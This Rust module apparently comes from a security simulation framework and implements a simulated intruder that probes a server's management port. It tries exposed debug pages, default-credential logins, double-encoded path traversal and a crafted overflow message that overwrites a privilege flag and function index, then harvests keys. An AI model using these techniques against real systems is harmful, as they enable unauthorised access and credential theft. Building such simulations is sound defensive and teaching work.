//! Exploration of a management port: pages that should not be there, accounts that a product is shipped with, paths
//! that lead out of a public folder, and a message that overruns a parser. All of it is in manuals and on lists.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::program::names;
use super::theft::ransack;
use super::{Field, Program};
use crate::backend::management::{DEFAULT_ACCOUNTS, Part};
use crate::node::{Deed, Hands, Intruder, NodeId, Placement};

/// A way in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Door {
    /// Pages that answer everybody.
    Pages,
    /// Accounts with the passwords that they were shipped with.
    Accounts,
    /// Paths out of the public folder, encoded once and twice.
    Paths,
    /// A message whose length lies, and then what the interface opens for its sender.
    Parser,
}

impl Door {
    /// Its word in a scenario.
    #[must_use]
    pub const fn word(self) -> &'static str {
        match self {
            Self::Pages => "pages",
            Self::Accounts => "accounts",
            Self::Paths => "paths",
            Self::Parser => "parser",
        }
    }
}

/// Tries the management port of each victim, a server, by these ways.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Explore {
    /// The ways, in order.
    pub doors: Vec<Door>,
}

impl Explore {
    pub(super) fn parameters(&self) -> toml::Table {
        let mut table = toml::Table::new();
        table.insert("ways".to_owned(), names(self.doors.iter().map(|door| door.word())));
        table
    }

    pub(super) fn place(&self, field: &Field<'_>) -> Vec<Placement> {
        field.in_each_victim(|at| Explorer { doors: self.doors.clone(), at })
    }
}

impl From<Explore> for Program {
    fn from(explore: Explore) -> Self {
        Self::Explore(explore)
    }
}

struct Explorer {
    doors: Vec<Door>,
    at: NodeId,
}

impl Intruder for Explorer {
    fn begin(&mut self, hands: &mut Hands<'_>) {
        for door in self.doors.clone() {
            let found = match door {
                Door::Pages => self.pages(hands),
                Door::Accounts => self.accounts(hands),
                Door::Paths => self.paths(hands),
                Door::Parser => self.parser(hands),
            };
            let what = format!("tries {}: {found} answers with something in it", door.word());
            let deed = if found > 0 { Deed::Stole } else { Deed::Commanded };
            hands.step(deed, what, None);
        }
    }
}

impl Explorer {
    /// One request, and whether its answer has something in it; keys that are in it are tried.
    fn ask(&self, request: &[u8], hands: &mut Hands<'_>) -> bool {
        let Some(answer) = hands.browse(self.at, request) else { return false };
        let Some(body) = content(&answer) else { return false };
        for loot in ransack(body, &[]) {
            let layout = hands.layout;
            if let Some(owner) = layout.named(loot.entry.name.as_str()) {
                hands.exhibit(owner, loot.key.expose());
            }
        }
        !body.is_empty()
    }

    fn get(&self, target: &str, hands: &mut Hands<'_>) -> bool {
        self.ask(format!("GET {target} HTTP/1.1\r\nHost: cse\r\n\r\n").as_bytes(), hands)
    }

    fn pages(&self, hands: &mut Hands<'_>) -> usize {
        let targets = ["/debug", "/files/"];
        targets.into_iter().filter(|target| self.get(target, hands)).count()
    }

    fn accounts(&self, hands: &mut Hands<'_>) -> usize {
        let mut found = 0;
        for (user, password) in DEFAULT_ACCOUNTS {
            let account = STANDARD.encode(format!("{user}:{password}"));
            for part in Part::ALL {
                let head = format!("GET /console/{} HTTP/1.1\r\nHost: cse\r\n", part.folder());
                let request = format!("{head}Authorization: Basic {account}\r\n\r\n");
                found += usize::from(self.ask(request.as_bytes(), hands));
            }
        }
        found
    }

    fn paths(&self, hands: &mut Hands<'_>) -> usize {
        let mut found = 0;
        for up in ["..", "%2e%2e", "%252e%252e"] {
            for part in Part::ALL {
                let target = format!("/files/{up}/{up}/{}/{}", part.folder(), part.file());
                found += usize::from(self.get(&target, hands));
            }
        }
        found
    }

    fn parser(&self, hands: &mut Hands<'_>) -> usize {
        let body = overrun();
        let head = format!("POST /readings HTTP/1.1\r\nContent-Length: {}\r\n\r\n", body.len());
        self.ask(&[head.as_bytes(), &body].concat(), hands);
        let targets = Part::ALL.iter().map(|part| {
            let (folder, file) = (part.folder(), part.file());
            format!("/service/{folder}/{file}")
        });
        targets.filter(|target| self.get(target, hands)).count()
    }
}

/// A name of 32 bytes that goes on over the price, a privilege and the number of the function that runs next.
fn overrun() -> Vec<u8> {
    let behind = [25, 0, 0, 0, 0, 0, 0, 0, 1];
    [&[1, 32 + 9][..], &[b'x'; 32], &behind].concat()
}

/// The body of a response, if it says that all is well.
fn content(response: &[u8]) -> Option<&[u8]> {
    let mut fields = [httparse::EMPTY_HEADER; 8];
    let mut head = httparse::Response::new(&mut fields);
    let httparse::Status::Complete(length) = head.parse(response).ok()? else { return None };
    if head.code != Some(200) {
        return None;
    }
    response.get(length..)
}
